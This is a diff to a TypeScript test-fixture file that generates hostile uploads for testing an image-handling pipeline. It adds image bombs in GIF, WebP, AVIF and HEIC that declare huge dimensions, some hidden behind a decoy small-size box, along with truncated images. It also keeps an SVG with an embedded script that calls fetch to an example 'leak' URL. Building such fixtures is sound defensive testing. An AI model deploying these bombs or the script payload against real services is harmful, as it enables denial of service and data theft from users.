@@ -1,10 +1,13 @@
 /** Files that are made to do harm: to take all memory, to run, to reach the network, or to be taken for something else. */
+import { readFileSync } from 'node:fs';
 import { deflateSync } from 'node:zlib';
 import { strToU8, zipSync } from 'fflate';
 import { PNG } from 'pngjs';
+import { isoBox, words } from './iso-boxes';
 import { pdfOf } from './pdfs';
 import { movieOf } from './recordings';
-import { jpegWith, plainJpeg, withMarkedCorner } from './turned-pictures';
+import { avifOf, gifOfFrames } from './stills';
+import { jpegWith, plainJpeg, plainPng, withMarkedCorner } from './turned-pictures';
 
 const script = 'document.title = "ran"; fetch("https://example.com/leak"); alert("ran")';
 
@@ -29,12 +32,28 @@ function paddedBomb(): Buffer {
   return jpegWith(photo, ...Array.from({ length: 6 }, () => padding));
 }
 
-/** A GIF of one point, of which the first frame is of 60,000 by 60,000 px: windows make room for it. */
-function frameBomb(): Buffer {
-  const screen = Buffer.from('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
-  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 0x60, 0xea, 0x60, 0xea, 0, 2, 2, 0x4c, 1, 0, 0x3b]);
-  return Buffer.concat([screen, frame]);
+const sky = { width: 60_000, height: 60_000 };
+const card = { width: 40, height: 30 };
+const large = { width: 4000, height: 4000 };
+const heic = readFileSync('tests/fixtures/pictures/quarters.heic');
+
+/** AVIF whose first quarter of a megabyte says that it is a card. */
+function hiddenBomb(): Buffer {
+  return avifOf(sky, sky, isoBox('free', isoBox('ispe', words(0, card.width, card.height)), Buffer.alloc(300_000)));
 }
+
+/** A telephone's picture with each of its sizes written over. */
+function heicBomb(): Buffer {
+  const bytes = Buffer.from(heic);
+  for (let at = bytes.indexOf('ispe'); at >= 0; at = bytes.indexOf('ispe', at + 4)) {
+    bytes.writeUInt32BE(sky.width, at + 8);
+    bytes.writeUInt32BE(sky.height, at + 12);
+  }
+  return bytes;
+}
+
+/** A picture as a chat sends it, which says that it is as large as its format lets it be, and is cut off. */
+const webpBomb = Buffer.from('RIFF\x24\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\x3f\0\xff\x3f\0nothing', 'latin1');
 
 function checksum(bytes: Uint8Array): number {
   let sum = 0xffffffff;
@@ -72,8 +91,21 @@ export interface HostileFile {
 export const hostileFiles: readonly HostileFile[] = [
   { name: 'bomb.png', content: pictureBomb() },
   { name: 'padded.jpg', content: paddedBomb() },
-  { name: 'frame.gif', content: frameBomb() },
+  // Of one point, with a first frame that windows make room for; and with a second one, that they do not.
+  { name: 'frame.gif', content: gifOfFrames({ width: 1, height: 1 }, [sky]) },
+  { name: 'second.gif', content: gifOfFrames(card, [card, sky]) },
+  { name: 'frames.gif', content: gifOfFrames(large, Array<typeof large>(20_000).fill(large)) },
+  { name: 'bomb.webp', content: webpBomb },
+  { name: 'bomb.avif', content: avifOf(sky) },
+  { name: 'hidden.avif', content: hiddenBomb() },
+  // A card that unpacks to 270 megapixels.
+  { name: 'unfolds.avif', content: avifOf(card, { width: 16_384, height: 16_384 }) },
+  { name: 'bomb.heic', content: heicBomb() },
   { name: 'cut.jpg', content: Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300', 'hex') },
+  { name: 'cut.png', content: plainPng(withMarkedCorner(8, 8)).subarray(0, 40) },
+  { name: 'cut.gif', content: gifOfFrames(card, [card]).subarray(0, 40) },
+  { name: 'cut.avif', content: avifOf(card).subarray(0, -20) },
+  { name: 'cut.heic', content: heic.subarray(0, heic.length / 2) },
   {
     name: 'drawing.svg',
     content: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`),
